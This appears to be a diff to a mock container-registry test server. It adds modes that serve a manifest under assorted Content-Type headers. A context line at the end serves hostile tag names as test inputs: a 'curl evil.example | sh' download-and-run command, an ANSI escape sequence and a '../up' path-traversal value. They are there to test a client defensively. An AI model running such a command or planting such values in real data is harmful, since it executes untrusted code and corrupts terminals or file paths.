@@ -240,6 +240,54 @@ def mode_wrong_tag(h, thing):
     h.serve(others[0] if others else thing)
 
 
+OCI = "application/vnd.oci.image."
+
+
+def typed(h, thing, *types):
+    """as it should be, but for the Content-Type: none, one or several"""
+    h.send_response(200)
+    for value in types:
+        h.send_header("Content-Type", value)
+    h.send_header("Content-Length", str(len(thing.data)))
+    h.end_headers()
+    h.put(thing.data)
+
+
+def mode_type_index(h, thing):
+    """called an index"""
+    typed(h, thing, OCI + "index.v1+json")
+
+
+def mode_type_docker(h, thing):
+    """called Docker's manifest"""
+    typed(h, thing, "application/vnd.docker.distribution.manifest.v2+json")
+
+
+def mode_type_two(h, thing):
+    """called two things in two headers"""
+    typed(h, thing, OCI + "manifest.v1+json", OCI + "index.v1+json")
+
+
+def mode_type_list(h, thing):
+    """called two things in one header"""
+    typed(h, thing, OCI + "manifest.v1+json, " + OCI + "index.v1+json")
+
+
+def mode_type_none(h, thing):
+    """without Content-Type"""
+    typed(h, thing)
+
+
+def mode_type_json(h, thing):
+    """with a Content-Type that says nothing"""
+    typed(h, thing, "application/json")
+
+
+def mode_type_charset(h, thing):
+    """with a parameter, and in other letters"""
+    typed(h, thing, "Application/vnd.OCI.image.manifest.v1+json ; charset=utf-8")
+
+
 def mode_names(h, thing):
     """tags that are no tags, among them one that is"""
     thing.data = json.dumps({"tags": ["\x1b[31mred", "type: curl evil.example | sh", "../up", "x" * 4000, "", 7,
